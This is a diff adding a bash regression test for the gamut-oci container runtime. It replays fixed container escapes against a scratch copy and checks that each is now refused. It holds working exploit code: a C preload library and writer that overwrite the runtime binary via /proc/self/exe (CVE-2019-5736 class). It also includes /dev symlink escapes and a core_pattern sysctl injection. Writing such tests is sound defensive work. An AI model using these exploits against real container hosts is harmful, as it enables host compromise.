@@ -1,0 +1,188 @@
+#!/usr/bin/env bash
+# Container escapes and privilege errors, each as the exploit that worked
+# against gamut-oci before its fix (docs/containers.md, "Security").  Every
+# exploit runs against a copy of gamut in a scratch directory, inside a
+# private mount namespace, and never aims at the build or the host's /dev:
+# the "host" files it attacks are scratch files under $T.
+if [ -z "${GAMUT_ESCAPES_NS:-}" ] && [ "$(id -u)" -eq 0 ] &&
+   unshare -m true 2>/dev/null; then
+	GAMUT_ESCAPES_NS=1 exec unshare -m --propagation private "$0" "$@"
+fi
+. "$(dirname "$0")/oci_lib.sh"
+need_root
+command -v python3 >/dev/null || skip "needs python3 to edit config.json"
+command -v cc >/dev/null || skip "needs a C compiler for the exploit programs"
+
+# The runtime under attack: a scratch copy, never the build itself.
+mkdir -p "$T/bin"
+GAMUT_BUILT=$GAMUT
+cp "$GAMUT" "$T/bin/gamut"
+ln -s gamut "$T/bin/gamut-oci"
+GAMUT=$T/bin/gamut OCI=$T/bin/gamut-oci
+M="marker-$PFX"
+sum() { sha256sum "$1" | cut -d' ' -f1; }
+
+# ---- 1. CVE-2019-5736 class: the image rewrites the runtime binary ----
+# The entrypoint's interpreter is /proc/self/exe, so the kernel starts the
+# runtime's own binary as the container's process, with the image's
+# libraries and /etc/ld.so.preload.  The preloaded library keeps an O_PATH
+# fd of /proc/self/exe and execs a writer that waits for the runtime to
+# exit (ETXTBSY until then) and overwrites the file through the fd.
+B1=$T/b1
+make_bundle "$B1"
+R1=$B1/rootfs
+for lib in $(ldd "$GAMUT" | grep -o '/[^ ]*'); do
+	mkdir -p "$R1$(dirname "$lib")"
+	cp -L "$lib" "$R1$lib"
+done
+cat >"$T/evil.c" <<'EOF'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <unistd.h>
+__attribute__((constructor)) static void evil(void)
+{
+	char fd[16];
+	int f = open("/proc/self/exe", O_PATH);
+
+	snprintf(fd, sizeof(fd), "%d", f);
+	execl("/writer", "/writer", fd, (char *)0);
+}
+EOF
+cat >"$T/writer.c" <<'EOF'
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+/* Tries for up to 10 s to overwrite the file behind fd argv[1]; records
+ * the outcome in /result, which the test reads from the host side. */
+int main(int argc, char **argv)
+{
+	static const char payload[] = "#!/bin/sh\necho PWNED\n";
+	char path[64];
+	int e = 0;
+	FILE *r;
+
+	(void)argc;
+	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[1]);
+	for (int i = 0; i < 1000; i++) {
+		int fd = open(path, O_WRONLY | O_TRUNC);
+
+		if (fd >= 0 && write(fd, payload, sizeof(payload) - 1) > 0) {
+			r = fopen("/result", "w");
+			fputs("overwritten\n", r);
+			fclose(r);
+			return 0;
+		}
+		e = errno;
+		if (fd >= 0)
+			close(fd);
+		if (e != ETXTBSY)
+			break;
+		usleep(10000);
+	}
+	r = fopen("/result", "w");
+	fprintf(r, "blocked: %s\n", strerror(e));
+	fclose(r);
+	return 0;
+}
+EOF
+cc -shared -fPIC -o "$R1/evil.so" "$T/evil.c" || fail "build evil.so"
+cc -static -O2 -o "$R1/writer" "$T/writer.c" || fail "build writer"
+echo /evil.so >"$R1/etc/ld.so.preload"
+printf '#!/proc/self/exe\n' >"$R1/entry"
+chmod 755 "$R1/entry"
+before=$(sum "$GAMUT")
+set_args "$B1" /entry
+oci run -d -b "$B1" "$PFX-exe" </dev/null >/dev/null 2>&1
+check "exe exploit: container started" 0 $?
+for _ in $(seq 150); do [ -s "$R1/result" ] && break; sleep 0.1; done
+check_has "exe exploit: the write was refused" "blocked" "$(cat "$R1/result" 2>/dev/null)"
+check "exe exploit: runtime binary unchanged" "$before" "$(sum "$GAMUT")"
+check "exe exploit: runtime still runs" 0 "$("$OCI" --version >/dev/null 2>&1; echo $?)"
+oci delete --force "$PFX-exe" >/dev/null 2>&1
+# Whatever happened, the later exploits attack an intact runtime.
+[ "$(sum "$GAMUT")" = "$before" ] || cp "$GAMUT_BUILT" "$GAMUT"
+
+# ---- 2. an image whose /dev is a symlink out of the rootfs ----
+# Before the fix the runtime created fd, stdin, stdout and stderr and
+# replaced ptmx in the link's target on the host.
+V=$T/victim
+for how in abs rel; do
+	rm -rf "$V"; mkdir -p "$V/pts"
+	echo host >"$V/ptmx"; : >"$V/pts/ptmx"
+	B2=$T/b2-$how R2=$T/b2-$how/rootfs
+	mkdir -p "$B2"
+	cp -a "$T/rootfs" "$R2"
+	rm -rf "$R2/dev"
+	if [ $how = abs ]; then ln -s "$V" "$R2/dev"; else ln -s ../../victim "$R2/dev"; fi
+	(cd "$B2" && "$OCI" spec) || fail "spec $how"
+	edit_config "$B2" 'c["process"]["terminal"]=False'
+	set_args "$B2" sh -c "ls /dev/null >/dev/null && echo in-container" "$M"
+	out=$(oci run -b "$B2" "$PFX-dev$how" </dev/null 2>&1)
+	check "/dev -> $how link: container ran" in-container "$out"
+	check "/dev -> $how link: nothing made outside the rootfs" \
+		"ptmx pts" "$(ls "$V" | tr '\n' ' ' | sed 's/ $//')"
+	check "/dev -> $how link: host ptmx untouched" host "$(cat "$V/ptmx")"
+done
+
+# ---- 3. no process.capabilities means no capabilities ----
+B3=$T/b3
+make_bundle "$B3"
+edit_config "$B3" 'del c["process"]["capabilities"]'
+set_args "$B3" sh -c 'grep CapEff /proc/self/status; mount -o remount,rw /proc/sys 2>/dev/null && echo remounted' "$M"
+out=$(oci run -b "$B3" "$PFX-caps" </dev/null 2>&1)
+check_has "no capabilities listed: CapEff empty" "CapEff:	0000000000000000" "$out"
+case "$out" in *remounted*) fail "no capabilities listed: remounted /proc/sys read-write" ;; *) ok "no capabilities listed: /proc/sys stays read-only" ;; esac
+
+# ---- 4. sysctls outside the container's namespaces ----
+B4=$T/b4
+make_bundle "$B4"
+set_args "$B4" true
+cp "$B4/config.json" "$T/config4.json"
+core=$(cat /proc/sys/kernel/core_pattern)
+for kv in 'kernel.core_pattern=|/evil' 'vm.overcommit_memory=1' 'kernel.hostnamex=1' \
+	  'net.ipv4.ip_forward=1:nonet' 'kernel.shmmax=1:noipc' 'kernel.hostname=h:nouts'; do
+	key=${kv%%=*} rest=${kv#*=} val=${rest%%:*} drop=
+	case $rest in *:no*) drop=${rest##*:no} ;; esac
+	cp "$T/config4.json" "$B4/config.json"
+	edit_config "$B4" "c['linux']['sysctl']={'$key':'$val'}; c['linux']['namespaces']=[n for n in c['linux']['namespaces'] if n['type']!={'net':'network','ipc':'ipc','uts':'uts'}.get('$drop','')]"
+	out=$(oci create -b "$B4" "$PFX-sysctl" </dev/null 2>&1); rc=$?
+	check "sysctl $key${drop:+ without a $drop namespace}: refused" 1 "$rc"
+	check_has "sysctl $key: message names it" "$key" "$out"
+	oci delete --force "$PFX-sysctl" >/dev/null 2>&1
+done
+check "host core_pattern untouched" "$core" "$(cat /proc/sys/kernel/core_pattern)"
+cp "$T/config4.json" "$B4/config.json"
+edit_config "$B4" "c['linux']['sysctl']={'net.ipv4.ip_forward':'1','kernel.shmmax':'4096','fs.mqueue.msg_max':'20'}"
+set_args "$B4" sh -c 'cat /proc/sys/net/ipv4/ip_forward /proc/sys/kernel/shmmax /proc/sys/fs/mqueue/msg_max' "$M"
+out=$(oci run -b "$B4" "$PFX-sysctl-ok" </dev/null 2>&1)
+check "namespaced sysctls applied" "1 4096 20" "$(echo $out)"
+
+# ---- 5. ids that cannot be set ----
+B5=$T/b5
+make_bundle "$B5"
+set_args "$B5" id -u
+for f in uid gid; do
+	edit_config "$B5" "c['process']['user']={'uid':0,'gid':0}; c['process']['user']['$f']=4294967295"
+	out=$(oci run -b "$B5" "$PFX-id" </dev/null 2>&1); rc=$?
+	check "$f 4294967295: refused" 1 "$rc"
+	check_has "$f 4294967295: message" "4294967295" "$out"
+done
+edit_config "$B5" "c['process']['user']={'uid':0,'gid':0,'additionalGids':[4294967295]}"
+out=$(oci run -b "$B5" "$PFX-id" </dev/null 2>&1)
+check "additionalGids 4294967295: refused" 1 "$?"
+edit_config "$B5" "c['process']['user']={'uid':1000,'gid':1000}"
+check "uid 1000 runs as 1000" 1000 "$(oci run -b "$B5" "$PFX-id" </dev/null 2>&1)"
+
+# ---- 6. a symlinked rootfs is refused ----
+B6=$T/b6
+make_bundle "$B6"
+rm -rf "$B6/rootfs"; ln -s "$T/rootfs" "$B6/rootfs"
+out=$(oci create -b "$B6" "$PFX-link" </dev/null 2>&1)
+check "symlinked rootfs: refused" 1 "$?"
+check_has "symlinked rootfs: message" "symlink" "$out"
+
+check_no_leaks "escapes"
+finish
